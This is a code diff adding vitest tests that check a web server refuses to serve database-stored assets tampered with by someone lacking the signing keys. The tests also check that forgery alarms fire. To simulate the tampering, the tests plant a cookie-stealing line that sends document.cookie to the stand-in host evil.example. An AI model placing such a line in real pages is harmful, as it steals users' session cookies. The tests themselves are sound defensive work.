@@ -2,8 +2,9 @@ import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { brotliCompressSync } from 'node:zlib';
-import { afterAll, expect, test } from 'vitest';
+import { afterAll, describe, expect, test } from 'vitest';
 import { createApp } from '../../../app.ts';
+import { evaluateAlarms } from '../../../features/alarms/evaluate-alarms.ts';
 import { atEndOfFile } from '../../../testing/end-of-file.ts';
 import { createFreshWorld, type World } from '../../../testing/world.ts';
 
@@ -99,4 +100,59 @@ test('processes that start at once store each file once', async () => {
   await Promise.all(Array.from({ length: 4 }, () => start(world, folder)));
   const rows = await world.ctx.db.selectFrom('web_assets').select('name').execute();
   expect(rows).toHaveLength(3);
+});
+
+describe('whoever can write to the database, without the keys,', () => {
+  const CODE = "fetch('https://evil.example/' + document.cookie)";
+  const rowOf = async ({ ctx }: World, name: string) =>
+    ctx.db.selectFrom('web_assets').selectAll().where('name', '=', name).executeTakeFirst();
+  const dropped = async ({ ctx }: World) =>
+    (await evaluateAlarms(ctx))
+      .filter(({ kind }) => kind === 'recordsForged')
+      .map(({ findings }) => findings[0]!.facts);
+
+  test('changes the code of a replaced build, and no page gets it', async () => {
+    const world = await createFreshWorld();
+    await start(world, build('a'));
+    const next = await start(world, build('b'));
+    await world.ctx.db
+      .updateTable('web_assets')
+      .set({ bytes: Buffer.from(CODE), is_packed: false })
+      .where('name', '=', 'main-a.js')
+      .execute();
+    const got = await next('/assets/main-a.js');
+    expect([got.statusCode, got.body.includes('evil')]).toEqual([404, false]);
+    expect(await rowOf(world, 'main-a.js')).toBeUndefined();
+    expect((await next('/assets/sheet-a.css')).statusCode).toBe(200);
+    expect(await dropped(world)).toEqual([{ name: 'main-a.js' }]);
+  });
+
+  test('adds a page of their own, and nobody gets it', async () => {
+    const world = await createFreshWorld();
+    await start(world, build('a'));
+    const row = { bytes: Buffer.from(CODE), is_packed: false, replaced_at: null };
+    const { mac } = (await rowOf(world, 'main-a.js'))!;
+    await world.ctx.db
+      .insertInto('web_assets')
+      .values([
+        { ...row, name: 'x.html', type: 'text/html' },
+        { ...row, name: 'x.js', type: 'text/javascript', mac },
+      ])
+      .execute();
+    const next = await start(world, build('b'));
+    for (const name of ['x.html', 'x.js']) expect((await next(`/assets/${name}`)).statusCode).toBe(404);
+    expect(await dropped(world)).toEqual([{ name: 'x.html' }, { name: 'x.js' }]);
+  });
+
+  test('gives code another name or another type, which changes nothing of how it is read', async () => {
+    const world = await createFreshWorld();
+    await start(world, build('a'));
+    const change = (name: string, columns: object) =>
+      world.ctx.db.updateTable('web_assets').set(columns).where('name', '=', name).execute();
+    await change('main-a.js', { type: 'text/html' });
+    await change('sheet-a.css', { name: 'sheet-z.js', type: 'text/javascript' });
+    const next = await start(world, build('b'));
+    expect((await next('/assets/main-a.js')).headers['content-type']).toBe('text/javascript; charset=utf-8');
+    expect((await next('/assets/sheet-z.js')).statusCode).toBe(404);
+  });
 });
